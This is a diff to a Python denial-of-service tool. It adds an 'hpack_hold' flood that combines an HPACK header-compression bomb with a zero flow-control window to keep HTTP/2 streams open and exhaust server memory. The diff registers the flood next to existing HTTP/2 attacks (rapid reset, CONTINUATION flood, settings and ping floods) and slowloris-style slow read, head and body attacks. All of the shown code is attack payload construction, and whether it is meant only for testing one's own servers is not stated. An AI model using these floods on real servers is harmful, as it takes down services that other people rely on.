@@ -76,6 +76,15 @@ def hpack_bomb() -> Iterator[bytes]:
                   struct.pack(">HI", 4, 0))
 
 
+def hpack_hold() -> Iterator[bytes]:
+    """The same below all limits, by as many requests as may be open: they stay so, since the window is 0."""
+    enter = request_block(SMALL) + literal(b"x-bomb", b"b" * 3000, True)
+    again = request_block(SMALL) + b"\xbe" * 9
+    return itertools.islice(
+        pieces(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, enter if stream == 1 else again),
+               struct.pack(">HI", 4, 0)), 2)
+
+
 def slow_read() -> Iterator[bytes]:
     """Large answers that nobody reads."""
     yield f"GET {LARGE} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 32
@@ -102,8 +111,8 @@ class Flood:
 FLOODS = {
     "rapid_reset": Flood(rapid_reset), "made_you_reset": Flood(made_you_reset), "continuation": Flood(continuation),
     "settings": Flood(settings), "ping": Flood(ping), "hpack_bomb": Flood(hpack_bomb, reads=False),
-    "slow_read": Flood(slow_read, 500, 1, reads=False), "slow_head": Flood(slow_head, 2000, 1),
-    "slow_body": Flood(slow_body, 1000, 1)}
+    "hpack_hold": Flood(hpack_hold, 32, 1, reads=False), "slow_read": Flood(slow_read, 500, 1, reads=False),
+    "slow_head": Flood(slow_head, 2000, 1), "slow_body": Flood(slow_body, 1000, 1)}
 
 
 @dataclass(eq=False)
